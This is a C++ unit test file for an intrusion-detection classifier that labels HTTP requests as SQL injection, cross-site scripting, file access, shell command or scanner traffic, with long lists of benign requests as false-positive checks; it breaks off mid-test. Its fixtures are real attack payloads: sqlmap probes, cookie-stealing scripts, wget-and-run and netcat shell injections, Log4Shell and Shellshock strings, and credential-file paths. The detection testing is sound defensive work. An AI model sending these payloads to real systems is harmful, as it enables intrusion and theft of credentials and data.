#include "features/payload_signs.h"

#include <gtest/gtest.h>
#include <netinet/in.h>

#include <algorithm>
#include <array>
#include <initializer_list>
#include <optional>
#include <random>
#include <set>
#include <string>
#include <string_view>

namespace weir {
namespace {

using namespace std::string_literals;
using namespace std::string_view_literals;

PayloadSigns signs_of(std::string_view head, std::uint8_t protocol = IPPROTO_TCP, std::uint16_t source_port = 40000,
                      std::uint16_t destination_port = 80) {
  return read_signs(protocol, source_port, destination_port,
                    {reinterpret_cast<const std::uint8_t*>(head.data()), head.size()});
}

std::string names_of(const PayloadSigns& signs) {
  std::string names;
  for (unsigned i = 0; i < 5; ++i)
    if ((signs.web_attacks >> i & 1) != 0)
      names += (names.empty() ? "" : " ") + std::string(web_attack_name(static_cast<WebAttack>(i)));
  return names;
}

std::string request(std::string_view target) { return "GET " + std::string(target) + " HTTP/1.1\r\nHost: a.example\r\n"; }

bool shows(std::string_view head, WebAttack attack) {
  return (signs_of(head).web_attacks >> static_cast<unsigned>(attack) & 1) != 0;
}

void expect_attacks(WebAttack attack, std::initializer_list<std::string_view> targets) {
  for (const std::string_view target : targets)
    EXPECT_TRUE(shows(request(target), attack)) << web_attack_name(attack) << " not seen in " << target;
}

/// However the head is cut.
void expect_nothing_in(const std::string& head) {
  for (std::size_t size = 0; size <= head.size(); ++size) {
    const PayloadSigns signs = signs_of(std::string_view(head).substr(0, size));
    EXPECT_EQ(names_of(signs), "") << head << "\ncut after " << size;
    if (signs.web_attacks != 0) return;
  }
}

void expect_nothing(std::initializer_list<std::string_view> targets) {
  for (const std::string_view target : targets) expect_nothing_in(request(target));
}

TEST(WebAttacks, SqlInjectionIsSeen) {
  expect_attacks(WebAttack::kSqlInjection, {"/p?id=1%27%20OR%20%271%27=%271",
                                            "/p?id=1'+or+1=1--+-",
                                            "/p?id=1%22+or+%22%22%3D%22",
                                            "/p?id=1)+or+(1=1",
                                            "/p?id=-1+UNION+SELECT+1,2,3--",
                                            "/p?id=-1+union+all+select+null,null",
                                            "/p?id=1+UNION+SELECT+user,password+FROM+users",
                                            "/p?id=1%2527%2520union%2520select%25201,2",
                                            "/p?id=1/**/union/**/select/**/1,2",
                                            "/p?id=-1+/*!50000UNION*/+/*!50000SELECT*/+1,2",
                                            "/p?id=-1%0bunion%0bselect%0b1,2",
                                            "/p?id=1'%20union(select(1),2)",
                                            "/p?id=1+AND+1=2",
                                            "/p?id=5+and+1=1",
                                            "/p?id=1+OR+2>1",
                                            "/p?id=1;DROP+TABLE+users",
                                            "/p?id=1%27;drop%20table%20users--",
                                            "/p?id=1;insert+into+users+values(1)",
                                            "/p?id=1;update+users+set+admin=1",
                                            "/p?id=1;exec+master..xp_cmdshell+'dir'",
                                            "/p?id=1;declare+@a+varchar(9)",
                                            "/p?q=1'+and+sleep(5)--",
                                            "/p?id=1+and+(select+*+from+(select(sleep(5)))a)",
                                            "/p?id=1-sleep(5)",
                                            "/p?id=if(1=1,sleep(3),0)",
                                            "/p?id=1;select+pg_sleep(5)--",
                                            "/p?x=1'%20waitfor%20delay%20'0:0:5'--",
                                            "/p?x=1);waitfor+delay+'0:0:5'--",
                                            "/p?id=1+and+benchmark(5000000,md5(1))",
                                            "/p?a=(select+version+from+v)",
                                            "/p?a=1+and+(select+count(*)+from+users)>0",
                                            "/p?u=admin'--",
                                            "/p?u=admin'--+-&p=x",
                                            "/p?u=admin'%23",
                                            "/user/admin'--",
                                            "/p?u=x'+or+user='admin",
                                            "/p?o=1+order+by+12--",
                                            "/p?id=1+and+extractvalue(1,concat(0x7e,version()))",
                                            "/p?id=1+and+ascii(substring((select+1),1,1))>64",
                                            "/p?id=1'+into+outfile+'/var/www/x.php",
                                            "/p?id=1+procedure+analyse(1,1)",
                                            "/p?id=%u0027+or+%u00271%u0027=%u00271",
                                            "/p?id=%EF%BC%871%27+or+1=1",
                                            "/p?id=1'%0Aor%0A'a'='a",
                                            "/p?id=1'||'a'='a",
                                            "/p?id=1+and+exists(select+1)",
                                            "/p?id=-1+union+select+@@version",
                                            "/p?id=1'+and+name+like+'a%25",
                                            "/p?id=1'+having+1=1--",
                                            "/p?id=x%27+and+1+in+(1)--+-"});
}

/// sqlmap 1.7's own requests against ?id=1, in its order.
TEST(WebAttacks, SqlmapIsSeen) {
  expect_attacks(
      WebAttack::kSqlInjection,
      {"/?id=1&AiBk=2894%20AND%201%3D1%20UNION%20ALL%20SELECT%201%2CNULL%2C%27%3Cscript%3Ealert%28%22XSS%22%29%3C%2Fscript%"
       "3E%27",
       "/?id=1%20AND%208513%3D3146", "/?id=1%20AND%206037%3D6037--%20fkXp",
       "/?id=1%27%20AND%208011%3D4519%20AND%20%27a%27%3D%27a", "/?id=1%29%20AND%203265%3D2150%20AND%20%287452%3D7452",
       "/?id=%28SELECT%20%28CASE%20WHEN%20%282344%3D2344%29%20THEN%201",
       "/?id=1%20AND%20EXTRACTVALUE%284471%2CCONCAT%280x5c%2C0x7170%29%29",
       "/?id=1%27%20AND%201234%20IN%20%28SELECT%20%28CHAR%28113%29%2BCHAR%28112%29", "/?id=1%3BSELECT%20PG_SLEEP%285%29--",
       "/?id=1%3BWAITFOR%20DELAY%20%270%3A0%3A5%27--", "/?id=1%20AND%20SLEEP%285%29",
       "/?id=1%20AND%208104%3DDBMS_PIPE.RECEIVE_MESSAGE%28CHR%2868%29%7C%7CCHR%2877%29%2C5%29",
       "/?id=1%20ORDER%20BY%201--%20-", "/?id=1%20UNION%20ALL%20SELECT%20NULL%2CNULL--%20-",
       "/?id=1%20RLIKE%20%28SELECT%20%28CASE%20WHEN%20%281%3D1%29"});
}

TEST(WebAttacks, CrossSiteScriptingIsSeen) {
  expect_attacks(WebAttack::kCrossSiteScripting, {"/s?q=<script>alert(1)</script>",
                                                  "/s?q=%3Cscript%3Ealert(1)",
                                                  "/s?q=%253Cscript%253Ealert(1)",
                                                  "/s?q=<ScRiPt+>prompt`1`",
                                                  "/s?q=<script+src=//e.example/x.js>",
                                                  "/s?q=<script/src=//e.example>",
                                                  "/s?q=\"><script>",
                                                  "/s?q=<script>document.location='//e'",
                                                  "/s?q=<img+src=x+onerror=alert(1)>",
                                                  "/s?q=<img/src/onerror=alert(1)>",
                                                  "/s?q=\"><svg/onload=alert(1)>",
                                                  "/s?q=<body+onload=x()>",
                                                  "/s?q=<details+open+ontoggle=alert(1)>",
                                                  "/s?q=<iframe+onload=x>",
                                                  "/s?u=javascript:alert(1)",
                                                  "/s?u=JaVaScRiPt:alert(document.domain)",
                                                  "/s?q='+onmouseover='alert(1)",
                                                  "/s?q=\"+autofocus+onfocus=alert(1)+x=\"",
                                                  "/s?q=<iframe+src=javascript:alert(1)>",
                                                  "/s?q=<object+data=data:text/html;base64,PHN2>",
                                                  "/s?q=';fetch('//e/'%2Bdocument.cookie)",
                                                  "/s?q=location='//e/?'%2Bdocument.cookie",
                                                  "/<script>alert('nikto')</script>",
                                                  "/s?q=%u003Cscript%u003Ealert(1)",
                                                  "/s?q=%uff1cscript%uff1ealert(1)",
                                                  "/s?q=%C0%BCscript%C0%BEalert(1)",
                                                  "/s?q=<video><source+onerror=alert(1)>"});
}

TEST(WebAttacks, FileAccessIsSeen) {
  expect_attacks(WebAttack::kFileAccess, {"/../../../../etc/passwd",
                                          "/d?f=..%2f..%2f..%2fetc%2fpasswd",
                                          "/d?f=..%252f..%252f..%252fetc",
                                          "/d?f=..\\..\\boot.ini",
                                          "/d?f=../etc/passwd",
                                          "/d?f=/etc/passwd",
                                          "/d?f=/etc/passwd%00.jpg",
                                          "/d?f=/etc/shadow&x=1",
                                          "/etc/passwd",
                                          "//etc/passwd",
                                          "/d?f=....//....//....//etc/passwd",
                                          "/d?f=%2e%2e%2f%2e%2e%2f%2e%2e%2fx",
                                          "/d?f=%252e%252e%252fetc%252fpasswd",
                                          "/d?f=..%c0%af..%c0%afetc/passwd",
                                          "/d?f=..%e0%80%af..%e0%80%afetc/passwd",
                                          "/d?f=..%f0%80%80%af..%f0%80%80%afetc/passwd",
                                          "/d?f=..%u2215..%u2215etc%u2215passwd",
                                          "/d?f=%uff0e%uff0e%u2216windows%u2216win.ini",
                                          "/d?f=..%5c..%5c..%5cwindows%5cwin.ini",
                                          "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
                                          "/cgi-bin/.%%32%65/.%%32%65/.%%32%65/etc",
                                          "/d?f=c:\\windows\\win.ini",
                                          "/d?f=C:/Windows/System32/drivers/etc/hosts",
                                          "/public/plugins/alertlist/../../../../../etc/passwd",
                                          "/d?u=file:///etc/passwd",
                                          "/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/",
                                          "/vpn/../vpns/cfg/smb.conf",
                                          "/tmui/login.jsp/..;/tmui/locallb",
                                          "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb",
                                          "/d?f=/proc/self/environ",
                                          "/d?f=../proc/self/cmdline",
                                          "/.git/config",
                                          "/app/.git/index",
                                          "/.svn/entries",
                                          "/.env",
                                          "/api/.env.local",
                                          "/.htpasswd",
                                          "/.aws/credentials",
                                          "/.ssh/id_rsa",
                                          "/i?p=php://filter/convert.base64-encode/resource=index",
                                          "/i?p=php://input",
                                          "/i?p=expect://id",
                                          "/i?p=data://text/plain;base64,PD9w",
                                          "/WEB-INF/web.xml",
                                          "/x/META-INF/context.xml",
                                          "/wp-config.php.bak",
                                          "/wp-config.php~",
                                          "/System/configurationFile?auth=YWRtaW46MTEK",
                                          "http://victim.example/../../etc/passwd"});
}

TEST(WebAttacks, ShellCommandIsSeen) {
  expect_attacks(WebAttack::kShellCommand,
                 {"/c?x=;wget+http://a/b",
                  "/c?x=|id",
                  "/c?x=`id`",
                  "/c?x=$(curl+http://a)",
                  "/c?x=$(id)",
                  "/cgi-bin/x?/bin/sh",
                  "/scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir",
                  "/scripts/root.exe?/c+dir",
                  "/c?ip=127.0.0.1%3Bcat+/etc/hosts",
                  "/c?ip=127.0.0.1%26%26whoami",
                  "/c?ip=1.1.1.1;id",
                  "/c?ip=1.1.1.1%0aid",
                  "/c?ip=1|uname+-a",
                  "/c?x=;sleep+5",
                  "/c?x=a;nc+-e+/bin/sh",
                  "/c?x=;cat${IFS}/etc/hosts",
                  "/c?x=`wget+http://a/x.sh+-O+/tmp/x`",
                  "/c?x=|/bin/ls",
                  "/c?x=;cd+/tmp;rm+-rf+*",
                  "/shell?cd+/tmp;rm+-rf+*;wget+http://a/jaws;sh+/tmp/jaws",
                  "/c?x=;chmod+777+x",
                  "/c?x=||ping+-c+3+a.example",
                  "/c?x=%26cmd+/c+dir",
                  "/cgi-bin/.%2e/.%2e/bin/sh",
                  "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E`wget+http://a/b`)",
                  "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
                  "/lib/phpunit/Util/PHP/eval-stdin.php",
                  "/x?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
                  "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5",
                  "/GponForm/diag_Form?images/",
                  "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm",
                  "/?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
                  "/index.php?-d+allow_url_include%3d1",
                  "/user/register?element_parents=account/mail/%23value&ajax_form=1",
                  "/autodiscover/autodiscover.json?@e.example/owa/",
                  "/a?x=%25%7B(%23_='x')%7D",
                  "/a.action?redirect:${%23a%3d1}",
                  "/$%7B%28%23a%3D%40org.apache.commons.io.IOUtils",
                  "/${@java.lang.Runtime@getRuntime().exec('id')}",
                  "/a?x=T(java.lang.Runtime).getRuntime()",
                  "/a?x=${jndi:ldap://e/a}",
                  "/a?x=${${lower:j}ndi:ldap://e}",
                  "/a?x=${${::-j}ndi:rmi://e}",
                  "/a?x=%24%7Bjndi%3Aldap%3A%2F%2Fe%7D",
                  "/a?x=%2524%257Bjndi:dns://e%257D",
                  "/a?x=${${env:NaN:-j}ndi:ldap://e}",
                  "/a?x={{''.__class__.__mro__}}",
                  "/a?x=<?php+system('id');",
                  "/a?x=system('id')",
                  "/viewtopic.php?highlight=%2527.%70%61%73%73%74%68%72%75%28%24%48",
                  "/a?find=array();phpinfo();exit;",
                  "/vcs?x=a%26cat%20%22/etc/hosts%22",
                  "/a?x=;powershell+-enc+AAA"});
  for (const std::string_view head :
       {"GET / HTTP/1.1\r\nUser-Agent: ${jndi:ldap://e.example/a}\r\n"sv,
        "GET / HTTP/1.1\r\nX-Api-Version: ${${lower:j}ndi:ldap://e}\r\n"sv,
        "GET /cgi-bin/status HTTP/1.1\r\nUser-Agent: () { :; }; /bin/bash -c 'id'\r\n"sv,
        "GET / HTTP/1.0\r\nReferer: () { _; } >_[$($())] { id; }\r\n"sv,
        "GET /cgi-bin/t HTTP/1.1\r\nCookie: () { ignored;};/bin/id\r\n"sv,
        "POST /a.action HTTP/1.1\r\nContent-Type: %{(#nike='multipart/form-data').(#dm=@ognl"sv,
        "PUT /SDK/webLanguage HTTP/1.1\r\nHost: a\r\n"sv, "POST /GponForm/diag_Form?images/ HTTP/1.1\r\n"sv})
    EXPECT_TRUE(shows(head, WebAttack::kShellCommand)) << head;
}

TEST(WebAttacks, ScannersAreSeenByUserAgentAndByTheirOwnPaths) {
  for (const std::string_view agent :
       {"sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)",
        "masscan/1.3", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        "Mozilla/5.0 zgrab/0.x", "gobuster/3.6", "Fuzz Faster U Fool v2.0.0", "feroxbuster/2.10",
        "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "WhatWeb/0.5.5",
        "WPScan v3.8.22 (https://wpscan.com)", "ZmEu", "Mozilla/4.0 (Hydra)"}) {
    const std::string head = "GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: " + std::string(agent) + "\r\n";
    EXPECT_EQ(names_of(signs_of(head)), "scanner") << head;
  }
  expect_attacks(WebAttack::kScanner,
                 {"/nice%20ports%2C/Tri%6Eity.txt%2ebak", "/nmaplowercheck1700000000", "/w00tw00t.at.ISC.SANS.DFind:)",
                  "/acunetix-wvs-test-for-some-inexistent-file", "/nikto-test-AbCd.html"});
}

TEST(WebAttacks, AScannersNameElsewhereIsNone) {
  expect_nothing({"/tools/nikto", "/docs/sqlmap/usage", "/search?q=nmap+scripting+engine", "/pkg/masscan_1.3.2_amd64.deb",
                  "/blog/how-zmeu-works"});
  for (const std::string_view field :
       {"Referer: http://sqlmap.org/", "Cookie: last=nikto", "User-Agent: Niktoria/1.0", "User-Agent: Sumasscanner/2",
        "X-User-Agent: nikto", "User-Agent: Mozilla/5.0\r\nReferer: http://nmap.example/nikto"})
    expect_nothing_in("GET / HTTP/1.1\r\nHost: a\r\n" + std::string(field) + "\r\n");
}

TEST(WebAttacks, AreNotSeenInPeoplesSearches) {
  expect_nothing({"/search?q=select+a+plan+from+our+store",
                  "/search?q=select+all+from+list",
                  "/a?q=union+jack+select",
                  "/q?q=credit+union+select+savings",
                  "/q?q=western+union+select+location",
                  "/q?q=union+select+committee+report",
                  "/a?q=rock+and+roll",
                  "/q?t=cat+and+dog",
                  "/s?q=or+1",
                  "/s?q=1+or+2",
                  "/s?q=5+and+6",
                  "/s?q=2+2=4",
                  "/s?q=1%2B1%3D2+and+2%2B2%3D4",
                  "/t?q=it's+or+isn't",
                  "/s?q=o'neil+and+sons",
                  "/q?a=\"x\"+and+\"y\"",
                  "/s?q=l'or+et+l'argent",
                  "/s?q=l%27or+ou+l%27argent",
                  "/s?q=aujourd'hui+and+demain",
                  "/s?q=rock+'n'+roll+--+live",
                  "/s?q=boys'+and+girls'+clothes&sort=1",
                  "/s?q=%22to+be%22+--+hamlet",
                  "/s?q=the+boys'+--+a+story",
                  "/s?q=d'union+select+paris",
                  "/s?q=dropdown+(select+one+from+list)",
                  "/s?q=update+set+of+keys",
                  "/s?q=drop+table+wine",
                  "/s?q=how+to+delete+from+cart",
                  "/s?q=insert+into+slot",
                  "/s?q=sleep+(song)",
                  "/s?q=diet+and+sleep+(8+hours)",
                  "/s?q=python+time.sleep(5)",
                  "/s?q=await+sleep(1000)",
                  "/s?q=benchmark+(2024)",
                  "/s?q=order+by+10+may",
                  "/s?q=having+fun",
                  "/s?q=case+when+then",
                  "/s?q=mysql+group_concat()+example",
                  "/s?q=information_schema.tables",
                  "/s?q=how+to+wget+a+file",
                  "/s?q=bash+cat+command",
                  "/s?q=dog|cat+food",
                  "/s?q=fish+%26+sh",
                  "/s?q=dns+%26+ping+test",
                  "/s?q=wake+up;+sleep+8+hours",
                  "/s?q=/etc/passwd+format+explained",
                  "/s?q=%2Fetc%2Fhosts+windows+path",
                  "/s?q=php://input+vs+$_POST",
                  "/s?q=%3Cscript%3E+tag+html",
                  "/s?q=<img>+alt+text",
                  "/s?q=<b>bold</b>",
                  "/s?q=document.cookie",
                  "/s?q=javascript:+the+good+parts",
                  "/s?q=alert(1)",
                  "/s?q=onclick=+attribute",
                  "/s?q=class.module.classloader+java",
                  "/s?q=%23!/bin/sh",
                  "/s?q=java.lang.runtime+exec",
                  "/s?q=where+is+wp-config.php",
                  "/s?q=what+is+.env+file",
                  "/s?q=cmd+/c+meaning",
                  "/s?q=${jquery}",
                  "/s?q=a+%26+b;+c",
                  "/s?q=Tom+%26+Jerry",
                  "/s?q=AT%26T",
                  "/s?q=use+`id`+in+bash",
                  "/s?q=100%25+cotton",
                  "/s?q=50%+off",
                  "/s?q=%E0%A4%A",
                  "/s?q=%D1%81%D0%BE%D1%8E%D0%B7+%D0%B8%D0%BB%D0%B8",
                  "/s?q=%E9%97%A8",
                  "/s?q=caf%E9+%C0+la+carte",
                  "/s?q=a..b...c",
                  "/s?q=...+/+..."});
}

TEST(WebAttacks, AreNotSeenInWhatProgramsAskFor) {
  expect_nothing({"/",
                  "/index.html",
                  "/shop?order=by+10",
                  "/q?x=1&id=5&cat=3",
                  "/q?a=b&sh=1",
                  "/q?sort=price;id=4",
                  "/p;jsessionid=A1?x=2",
                  "/wiki/Cat_(Unix)",
                  "/wiki/Union_(set_theory)",
                  "/wiki/Boot.ini",
                  "/wiki/Select_(SQL)",
                  "/wiki//etc/passwd",
                  "/a?url=https%3A%2F%2Fx.org%2F%3Fid%3D1%26curl%3D2",
                  "/r?u=http://x/?a=1%26ping=1",
                  "/r?u=https%253A%252F%252Fx.org%252F%253Fa%253D1",
                  "/ajax/update?id=3",
                  "/js/alert.js",
                  "/static/onload.js",
                  "/images/on%20error.png",
                  "/script/main.js",
                  "/scripts/app.js",
                  "/api/v1/drop?table=1",
                  "/docs/../index.html",
                  "/a/../b",
                  "/css/../../img/a.png",
                  "/r?f=../img/x.png",
                  "/etc/hosts.html",
                  "/environment",
                  "/.well-known/acme-challenge/x",
                  "/.well-known/security.txt",
                  "/bin/shop",
                  "/cmd/execute",
                  "/id",
                  "/whoami",
                  "/ping?x=1",
                  "/download?id=7&file=a.sh",
                  "/feed?x=%7B%22a%22%3A1%7D",
                  "/g?q=%24100",
                  "/mail?to=a;b",
                  "/t?x=a|b",
                  "/t?fields=name|id",
                  "/t?fields=name;id",
                  "/t?fields=title%7Cid&sort=x",
                  "/fonts?family=Open+Sans:400|Roboto",
                  "/v?or=1&and=2",
                  "/graphql?query={user(id:1){name}}",
                  "/graphql?query=query+A($id:ID!){a(id:$id){b}}",
                  "/f?x=c:%5Cwindows%5Cfonts",
                  "/setup/eureka_info.json?params=version,name&x=a;b",
                  "/r?x=1;2;3",
                  "/m?x=&ping=3",
                  "/m?x=a&cat=7&id=9",
                  "/m?q=a&nc=1",
                  "/m?_nc_cat=1&nc=0",
                  "/m?x=&id",
                  "/m?a=1&whoami",
                  "/m?a=&env",
                  "/rest/api/2/search?jql=project=\"WEIR\"+and+status=\"open\"",
                  "/rest/api/2/search?jql=project+=+%22WEIR%22+AND+priority+in+(1,2)",
                  "/odata/Products?$filter=Name+eq+'Milk'+and+Price+lt+3",
                  "/drive/v3/files?q=name='x'+and+trashed=false",
                  "/drive/v3/files?q='abc'+in+parents+and+trashed=false",
                  "/solr/select?q=title:\"a\"+OR+title:\"b\"&fq=id:[1+TO+5]",
                  "/api?filter[where][or][0][id]=1",
                  "/api?where=%7B%22or%22%3A%5B1%5D%7D",
                  "/api?select=id,name&order=by.desc",
                  "/rest/v1/users?select=*&id=eq.1",
                  "/api?fields=count(*)",
                  "/q?expr=a>1+and+b<2",
                  "/api/v1/query?query=sum(rate(http_requests_total%7Bjob%3D%22a%22%7D%5B5m%5D))+by+(job)",
                  "/api/v1/query?query=up%3D%3D1+and+x%3D%3D0",
                  "/render?target=alias(sumSeries(a.*.b),'x')",
                  "/debian/pool/main/l/linux/linux-image-6.1.0-18-amd64_6.1.76-1_amd64.deb",
                  "/debian/dists/bookworm/main/binary-amd64/by-hash/SHA256/9d0d2c5f",
                  "/debian/pool/main/s/sqlmap/sqlmap_1.7.2-1_all.deb",
                  "/ubuntu/pool/main/libs/libsigc++-2.0/libsigc++-2.0-0v5_2.10.8-1.dsc",
                  "/simple/six/",
                  "/npm/@babel%2fcore/-/core-7.1.0.tgz",
                  "/v2/library/alpine/manifests/sha256:1d34",
                  "/repo.git/info/refs?service=git-upload-pack",
                  "/x/.git/info/refs",
                  "/x/.git/HEAD",
                  "/x/.git/objects/pack/p.idx",
                  "/maven2/org/apache/logging/log4j/log4j-core/2.17.1/log4j-core-2.17.1.jar",
                  "/javase/8/docs/api/java/lang/Runtime.html",
                  "/collect?v=1&t=pageview&dl=file%3A%2F%2F%2FC%3A%2FUsers%2Fa%2Fpage.html",
                  "/track?href=javascript%3Avoid(0)&x=1",
                  "/track?href=javascript:;",
                  "/track?href=javascript:history.back()",
                  "/ad?click=${CLICK_URL}&gdpr=${GDPR}&p=${AUCTION_PRICE:BF}",
                  "/ad?cb=%%CACHEBUSTER%%&c=%%CLICK_URL_UNESC%%",
                  "/ad?u=[RANDOM]&m={{MACRO}}&d=${DEVICE}",
                  "/px?ev=ViewContent&cd[value]=1&cd[id]='a'",
                  "/px?data=eyJhIjoxLCJiIjoib3IgMT0xIn0%3D",
                  "/px?b64=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
                  "/sprite?svg=<svg+xmlns=\"http://www.w3.org/2000/svg\"><path+d=\"M0\"/>",
                  "/oembed?html=<div+class=\"a\"><img+src=\"x.png\"></div>",
                  "/iframe?src=https://a.example/",
                  "/p?html=%3Cb%3Ex%3C/b%3E",
                  "/t?name=D'Angelo&city=L'Aquila",
                  "/t?name=O'Brien%20and%20Co",
                  "/t?d=2024-01-01'T'00:00",
                  "/t?s='a','b'",
                  "/t?x=a--b",
                  "/t?x=--help",
                  "/t?slug=rock--roll",
                  "/a/b/..c/d",
                  "/a.../b",
                  "/t?r=1..5",
                  "/t?v=1.2...2.0",
                  "/compare/v1.0...v2.0",
                  "/t?range=a:b|c:d;e:f",
                  "/cgi-bin/luci/;stok=abc123/admin/status",
                  "/cgi-bin/test.sh?x=1",
                  "/dl?f=install.sh;v=2",
                  "/~user/public_html/",
                  "/t?path=/home",
                  "/t?path=/var/lib/x",
                  "/t?file=/usr/share/doc",
                  "/t?p=/bin/",
                  "/blob/master/rootfs/etc/passwd",
                  "/raw/main/.env.example",
                  "/docs/wp-config-php",
                  "/wp-login.php",
                  "/wp-admin/admin-ajax.php?action=x",
                  "/xmlrpc.php",
                  "/phpmyadmin/sql.php?db=a&table=b",
                  "/server-status?auto",
                  "/HNAP1/",
                  "/sdk/webLanguage",
                  "/GponForm/LoginForm",
                  "/autodiscover/autodiscover.json?Email=a%40b.example&Protocol=ActiveSync",
                  "/index.php?s=/shop/index",
                  "/index.php?s=product&function=list",
                  "/?-x",
                  "/a?s=%25%7Bname%7D",
                  "/t?f=%Y-%m-%d",
                  "/a?q={{name}}",
                  "/zabbix/jsrpc.php?type=9&method=screen.get&timestamp=1",
                  "/login?next=/admin/&or=1",
                  "/a?callback=jQuery123_456&_=789",
                  "/a?callback=function(){return;}",
                  "/a?cb=()=>{x;}",
                  "/p?x=%00",
                  "/t?x=1%0a2",
                  "/t?text=line%0aid+card",
                  "/t?id=1%3B2",
                  "*"});
  for (
      const std::string_view head :
      {"PROPFIND /dav/Documents/ HTTP/1.1\r\nDepth: 1\r\n"sv, "PROPFIND /.DS_Store HTTP/1.1\r\n"sv,
       "OPTIONS * HTTP/1.1\r\nHost: a\r\n"sv, "CONNECT a.example:443 HTTP/1.1\r\nHost: a.example:443\r\n"sv,
       "GET http://deb.example/debian/dists/x/InRelease HTTP/1.1\r\n"sv,
       "GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0\r\n"sv,
       "GET / HTTP/1.1\r\nAccept: text/html,application/xhtml+xml,*/*;q=0.8\r\nCookie: a=b; id=5; sh=1\r\n"sv,
       "GET / HTTP/1.1\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n"sv,
       "POST /api HTTP/1.1\r\nContent-Type: multipart/form-data; boundary=x\r\n"sv,
       "POST /a HTTP/1.0\r\n\r\n{\"q\":\"select a from b where c='d' or 1=1\",\"f\":\"../../../x\"}"sv,
       "POST /a HTTP/1.0\r\n\r\nvar f = function() { x; };"sv,
       "GET / HTTP/1.1\r\nReferer: http://a/?q=<script>alert(1)\r\n"sv})
    expect_nothing_in(std::string(head));
}

/// A server that decodes sees one line, however a scanner hides its ends in it; a name in it is no header field.
TEST(WebAttacks, AnEncodedLineEndEndsNoLine) {
  EXPECT_EQ(names_of(signs_of(request("/p?x=%0d%0a&id=1+union+all+select+1"))), "sql_injection");
  EXPECT_EQ(names_of(signs_of(request("/p?x=%250d%250a;wget+http://a/b"))), "shell_command");
}

TEST(WebAttacks, OneRequestMayShowSeveral) {
  EXPECT_EQ(names_of(signs_of("GET /p?a=1+and+1=1&b=<script>alert(1)&c=../../../x HTTP/1.0\r\nUser-Agent: sqlmap/1.7\r\n")),
            "sql_injection cross_site_scripting file_access scanner");
}

TEST(WebAttacks, NeedNoMoreThanTheirOwnSyntax) {
  for (const std::string_view head : {"GET /p?id=-1+union+all+select"sv, "GET /p?id=1+and+1=1"sv, "GET /a?x=${jndi:"sv,
                                      "GET /s?q=<script>alert("sv, "GET /d?f=../../../"sv, "GET /d?f=../etc/passwd"sv,
                                      "GET /c?x=;wget+http:"sv, "GET / HTTP/1.1\r\nUser-Agent: sqlmap/"sv})
    EXPECT_NE(signs_of(head).web_attacks, 0) << head;
}

TEST(WebAttacks, AreLookedForInRequestsAlone) {
  for (const std::string_view head :
       {"HTTP/1.1 200 OK\r\n\r\n<script>alert(1)</script>"sv, "RETR /../../../etc/passwd\r\n"sv, "GET key' or 1=1\r\n"sv,
        "GETS /p?id=1+and+1=1 HTTP/1.1\r\n"sv, "get /.env HTTP/1.1\r\n"sv})
    EXPECT_EQ(signs_of(head).web_attacks, 0) << head;
  EXPECT_EQ(signs_of(request("/.env"), IPPROTO_UDP).web_attacks, 0);
}

TEST(PayloadSigns, TellARequestFromOtherProtocolsWithItsVerbs) {
  for (const std::string_view head :
       {"GET / HTTP/1.1\r\n"sv, "GET /\r\n"sv, "GET /a"sv, "POST /x HTTP/1.0\r\n"sv, "OPTIONS * HTTP/1.1\r\n"sv,
        "CONNECT a.example:443 HTTP/1.1\r\n"sv, "GET a HTTP/1.1\r\n"sv, "PROPPATCH /x HTTP/1.1\r\n"sv})
    EXPECT_TRUE(signs_of(head).is_http_request) << head;
  for (const std::string_view head :
       {""sv, "GET"sv, "GET "sv, "GET\t/ HTTP/1.1\r\n"sv, "GET key\r\n"sv, "OPTIONS rtsp://a/b RTSP/1.0\r\n"sv,
        "OPTIONS sip:a@b SIP/2.0\r\n"sv, "STOR /x\r\n"sv, "get / HTTP/1.1\r\n"sv, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"sv,
        "SEARCH UNSEEN\r\n"sv, "\x16\x03\x01\x02"sv})
    EXPECT_FALSE(signs_of(head).is_http_request) << head;
}

TEST(PayloadSigns, ReadTheStatusOfAnAnswer) {
  EXPECT_EQ(signs_of("HTTP/1.1 404 Not Found\r\n").http_status, 404);
  EXPECT_EQ(signs_of("HTTP/1.0 200\r\n").http_status, 200);
  EXPECT_EQ(signs_of("HTTP/1.1 503").http_status, 503);
  for (const std::string_view head :
       {"HTTP/1.1 40"sv, "HTTP/1.1 4040 x"sv, "HTTP/1.1 abc"sv, "HTTP/1.1 099 x"sv, "HTTP/2 200"sv, "HTTP/1.1\t200 "sv,
        "HTTP/1.x 200 OK"sv, " HTTP/1.1 200 OK"sv, "HTTP/1."sv})
    EXPECT_EQ(signs_of(head).http_status, 0) << head;
  EXPECT_EQ(signs_of("HTTP/1.1 200 OK\r\n", IPPROTO_UDP).http_status, 0);
}

TEST(PayloadSigns, KnowAnSshBanner) {
  for (const std::string_view head : {"SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n"sv, "SSH-1.99-x"sv, "SSH-1.5-x"sv, "SSH-2.0-"sv})
    EXPECT_TRUE(signs_of(head, IPPROTO_TCP, 22, 50000).is_ssh_banner) << head;
  for (const std::string_view head :
       {"SSH-2.0"sv, "SSH-"sv, "SSH-keys and more"sv, "ssh-2.0-x"sv, "SSH-2.0 x"sv, "xSSH-2.0-a"sv})
    EXPECT_FALSE(signs_of(head).is_ssh_banner) << head;
}

TEST(PayloadSigns, KnowALogin) {
  for (const std::string_view head :
